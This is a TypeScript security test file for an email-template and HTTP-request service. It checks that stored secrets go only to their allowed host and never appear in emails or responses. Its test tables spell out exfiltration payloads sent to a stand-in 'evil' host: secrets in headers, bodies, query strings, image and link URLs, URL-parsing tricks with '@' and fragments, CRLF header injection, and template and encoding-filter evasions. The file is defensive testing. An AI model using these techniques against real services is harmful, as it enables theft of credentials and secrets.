import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { logFigure } from '../harness/log-figure.ts';
import type { TestKey } from '../harness/outstep.ts';
import { sampled } from '../harness/size.ts';
import { eventually } from '../harness/test-stack.ts';
import { callTool } from '../mcp/posts.ts';
import { layoutIn, listVersions } from '../repository/world.ts';
import { refusedForms } from './forms.ts';
import { blockPlaces } from './places.ts';
import { startTwoHosts, type TwoHosts } from './two-hosts.ts';

let world: TwoHosts;
beforeAll(async () => {
  world = await startTwoHosts();
});
afterAll(() => world?.close());

type Fields = Record<string, unknown>;
type Secret = { name: string; value: string };

/** What an attacker writes to get a value; `secret` is how a text refers to it. */
interface Way {
  write(secret: string, name: string): Fields;
  /** A change after the first write. */
  change?(): Fields;
  /** The variables that a workflow or a tester passes. */
  variables?(secret: string, name: string): Fields;
  /** No permission makes it work: it is rejected at once, or sends something else. */
  isHopeless?: true;
}

const header = (secret: string) => ({ headers: { 'X-Key': secret } });

const requestWays: Record<string, Way> = {
  'a header to another host': { write: (s) => ({ url: `${world.evil.origin}/`, ...header(s) }) },
  'a body to another host': { write: (s) => ({ url: `${world.evil.origin}/`, body: { note: s } }) },
  'a query to another host': { write: (s) => ({ url: `${world.evil.origin}/?q=${s}` }) },
  'a changed address': {
    write: (s) => ({ url: `${world.home.origin}/`, ...header(s) }),
    change: () => ({ url: `${world.evil.origin}/` }),
  },
  'a host from a variable': {
    write: (s) => ({ url: 'https://{{ variables.host }}/', ...header(s) }),
    variables: () => ({ host: world.evil.host }),
  },
  'a host that a tag writes': {
    write: (s) => ({ url: `https://{% if true %}${world.evil.host}{% endif %}/`, ...header(s) }),
  },
  'the own host as a login': {
    write: (s) => ({ url: `https://${world.home.host}@${world.evil.host}/`, ...header(s) }),
  },
  'the own host behind a backslash': {
    write: (s) => ({ url: `https://${world.evil.host}\\@${world.home.host}/`, ...header(s) }),
    // The host of such an address is rejected as ambiguous.
    isHopeless: true,
  },
  'the own host as a fragment': {
    write: (s) => ({ url: `https://${world.evil.host}#@${world.home.host}/`, ...header(s) }),
  },
  'a redirect': { write: (s) => ({ url: `${world.home.origin}/moved?q=${s}` }), isHopeless: true },
  'a Host header': {
    write: (s) => ({ url: `${world.home.origin}/`, headers: { Host: world.evil.host, 'X-Key': s } }),
    isHopeless: true,
  },
  'the secret as a host': {
    write: (s) => ({ url: `https://${s}.${world.evil.host}/` }),
    isHopeless: true,
  },
  'a variable that names it': {
    write: () => ({ url: `${world.evil.origin}/`, body: '{{ variables.text }}' }),
    variables: (text) => ({ text }),
    isHopeless: true,
  },
  'a variable that is looked up': {
    write: () => ({
      url: `${world.evil.origin}/`,
      body: '{% assign kept = variables.name %}{{ secrets[kept] }}',
    }),
    variables: (_, name) => ({ name }),
    isHopeless: true,
  },
  'a typed credential to a changed address': {
    write: (_, name) => ({ url: `${world.home.origin}/`, ...header(world.newValue(`${name}_TYPED`)) }),
    change: () => ({ url: `${world.evil.origin}/` }),
    isHopeless: true,
  },
  'a typed credential in a variable that stands where nothing names it': {
    write: (_, name) => ({
      ...{ url: `${world.home.origin}/`, body: '{{ variables.token }}' },
      testVariables: { token: world.newValue(`${name}_TYPED`) },
    }),
    variables: () => ({ token: '********' }),
    isHopeless: true,
  },
  'a typed credential in a variable': {
    write: (_, name) => ({
      ...{ url: `${world.home.origin}/`, body: '{{ variables.token }}' },
      testVariables: { token: world.newValue(`${name}_TYPED`) },
    }),
    change: () => ({ url: `${world.evil.origin}/` }),
    // A mask stands for the value.
    variables: () => ({ token: '********' }),
    isHopeless: true,
  },
};

const mail = (fields: Fields): Fields => ({ bodyType: 'text', body: '<p>Hello</p>', ...fields });
const design = (block: Fields): Fields => ({ bodyDesign: { blocks: [block] } });

const mailWays: Record<string, Way> = {
  subject: { write: (s) => mail({ subject: `Hello ${s}` }) },
  'another header in the subject': { write: (s) => mail({ subject: `Hello\r\nX-Key: ${s}` }) },
  'preview text': { write: (s) => mail({ previewText: s }) },
  text: { write: (s) => mail({ body: `<p>${s}</p>` }) },
  'a link': { write: (s) => mail({ body: `<a href="${world.evil.origin}/?q=${s}">Hello</a>` }) },
  'the address of an image': { write: (s) => mail({ body: `<img src="${world.evil.origin}/?q=${s}">` }) },
  'a style': { write: (s) => mail({ body: `<p style="color: ${s}">Hello</p>` }) },
  footer: {
    write: (s) =>
      mail({
        category: 'marketing',
        marketingTexts: { companyDetails: s, unsubscribeText: '{{ unsubscribe_link }}' },
      }),
  },
  'the name of a file': {
    write: (s) => mail({ attachments: [{ filename: `${s}.txt`, url: `${world.home.origin}/` }] }),
  },
  'the address of a file': {
    write: (s) => mail({ attachments: [{ filename: 'a.txt', url: `${world.evil.origin}/?q=${s}` }] }),
  },
  'a file that redirects': {
    write: (s) => mail({ attachments: [{ filename: 'a.txt', url: `${world.home.origin}/moved?q=${s}` }] }),
  },
  ...Object.fromEntries(
    blockPlaces
      .filter(({ title }) => !title.startsWith('attachment'))
      .map(({ title, block }) => [title, { write: (s: string) => design(block(s)) }]),
  ),
};

/** How someone with a key writes a record and makes it run. */
interface Kind {
  path: string;
  create: string;
  update: string;
  ways: Record<string, Way>;
  fire(id: string, variables?: Fields): Promise<unknown[]>;
}

/** A key has 300 calls a minute, and 60 runs an hour. */
const newKey = () => world.mail.outstep.newKey(world.mail.storeId, 'execute');
let key: TestKey;
const rest = (method: string, path: string, body?: unknown) =>
  world.mail.outstep.call(key, method, `/api/v1${path}`, body);
const tool = (name: string, args: object) => callTool(world.mail.outstep, key, name, args);

const kinds: Record<string, Kind> = {
  requests: {
    ...{ path: '/http-requests', create: 'create_http_request', update: 'update_http_request' },
    ways: requestWays,
    async fire(id, variables) {
      const { body } = await world.mail.step(id, randomUUID(), { variables: variables ?? {} });
      return [
        await rest('POST', `/http-requests/${id}/test`, {}),
        await rest('POST', `/http-requests/${id}/test`, { variables }),
        await tool('test_http_request', { id, variables }),
        await world.app('POST', `/http-requests/${id}/test`, { variables }),
        await world.mail.ended(body.executionId),
      ];
    },
  },
  emails: {
    ...{ path: '/email-templates', create: 'create_email_template', update: 'update_email_template' },
    ways: mailWays,
    async fire(id) {
      const to = 'anna@customer.example';
      const test = { layout: id, to, sender: world.mail.senderId };
      const tested = await world.app('POST', '/mail-tests', test);
      return [
        await rest('POST', `/email-templates/${id}/preview`, {}),
        await tool('preview_email_template', { id }),
        tested,
        await world.mail.ended(tested.body.executionId),
        await world.mail.send(id, randomUUID(), { to: [to] }),
      ];
    },
  },
};

const carriers = {
  'the API': async ({ path }: Kind, fields: Fields, id?: string) => {
    const answer = await (id ? rest('PATCH', `${path}/${id}`, fields) : rest('POST', path, fields));
    return { said: answer.text, id: answer.status < 300 ? (answer.body.id as string) : null };
  },
  'a tool': async ({ create, update }: Kind, fields: Fields, id?: string) => {
    const answer = await (id ? tool(update, { id, ...fields }) : tool(create, fields));
    return { said: JSON.stringify(answer), id: answer.isError ? null : (answer.value.id as string) };
  },
};

const cases = Object.keys(kinds).flatMap((kind) =>
  Object.keys(carriers).map((carrier) => ({ kind, carrier: carrier as keyof typeof carriers })),
);

test.each(cases)(
  'a secret in $kind that $carrier writes goes only to its host, in no email and no response (contract: Senders, secrets, files 11; Senders, secrets, files 12)',
  async ({ kind: name, carrier }) => {
    const kind = kinds[name] as Kind;
    const write = carriers[carrier];
    const saved: { title: string; id: string; variables: Fields | undefined; secret: Secret }[] = [];
    const answers: unknown[] = [];
    const turn = Object.keys(carriers).indexOf(carrier);
    const titles = sampled(Object.keys(kind.ways), name === 'requests' ? 2 : 6, turn);
    for (const [i, title] of titles.entries()) {
      if (i % 8 === 0) key = await newKey();
      const way = kind.ways[title] as Way;
      const secret = await world.newSecret(`${carrier === 'a tool' ? 'T' : 'A'}_${name.toUpperCase()}_${i}`);
      const text = `{{ secrets.${secret.name} }}`;
      const fields = {
        ...{ name: title, ...(name === 'emails' ? { subject: 'Hello' } : { method: 'POST' }) },
        ...way.write(text, secret.name),
      };
      const made = await write(kind, fields);
      answers.push(made.said);
      if (made.id === null) {
        expect([title, way.isHopeless, made.said]).toEqual([title, true, made.said]);
        continue;
      }
      if (way.change) answers.push((await write(kind, way.change(), made.id)).said);
      const variables = way.variables?.(text, secret.name);
      answers.push(...(await kind.fire(made.id, variables)));
      saved.push({ title, id: made.id, variables, secret });
    }
    const shown = world.detector.in(JSON.stringify(answers));
    expect([...world.stolen()], 'received by somebody else').toEqual([]);
    expect(shown, 'in an answer').toEqual([]);
    // Without these permissions, each way would have worked: the same records, run again.
    for (const [i, { id, variables, secret }] of saved.entries()) {
      if (i % 8 === 0) key = await newKey();
      await world.mail.operate('set_secret', { ...secret, host: ['any'], email: 'yes' });
      await kind.fire(id, variables);
    }
    const stolen = world.stolen();
    const working = saved.filter(({ secret }) => stolen.has(secret.name)).map(({ title }) => title);
    expect(working).toEqual(titles.filter((title) => !kind.ways[title]?.isHopeless));
    logFigure(
      `Secrets in ${name}, written with ${carrier}: ${titles.length} ways, ${working.length} of which work without hosts, ${answers.length} answers, 0 values elsewhere`,
    );
  },
);

test('400 for every filter, tag and comparison through a tool (contract: Layouts 4)', async () => {
  key = await newKey();
  const { name } = await world.newSecret('FILTERED');
  for (const [form, write] of Object.entries(refusedForms)) {
    const text = write(name);
    for (const [create, fields] of [
      ['create_email_template', { name: form, subject: text, bodyType: 'text' }],
      ['create_http_request', { name: form, url: world.evil.origin, body: text }],
    ] as const) {
      const answer = await tool(create, fields);
      expect([form, create, answer.isError], answer.text).toEqual([form, create, true]);
    }
  }
});

test('a secret in a commit follows the same rules when a key restores it (contract: Senders, secrets, files 12)', async () => {
  const { github } = world;
  const store = await world.newStore();
  const { outstep, storeId } = store;
  const owner = await outstep.newKey(storeId, 'write');
  const { name } = await world.newSecret('COMMITTED', store);
  const repository = `${github.repository.owner}/${github.repository.name}`;
  await store.operate('connect_repository', { repository, token: github.token });
  const id = await store.layout({ bodyType: 'text', body: '<p>Hello</p>' });
  await eventually(
    () => listVersions(outstep, storeId),
    ({ waiting }) => waiting === 0,
  );
  const { layout } = await layoutIn(github, 'main', id);
  const restore = async (subject: string) => {
    const files = { [`layouts/${id}/layout.json`]: JSON.stringify({ ...layout, subject }) };
    const sha = await github.commitAsPerson({ message: 'Warmer words', files });
    return outstep.call(owner, 'POST', `/api/v1/email-templates/${id}/versions/github/${sha}/restore`);
  };
  for (const form of ['default: "none"', 'base64_encode', 'url_encode'])
    expect((await restore(`{{ secrets.${name} | ${form} }}`)).status).toBe(400);
  expect((await restore(`Hello {{ secrets.${name} }}`)).status).toBe(200);
  const sent = await store.send(id, randomUUID(), { to: ['anna@customer.example'] });
  expect(sent).toMatchObject({ status: 'FAILED', error: expect.stringContaining('not allowed in emails') });
  expect([...world.stolen(store)]).toEqual([]);
  await store.smtp.close();
});
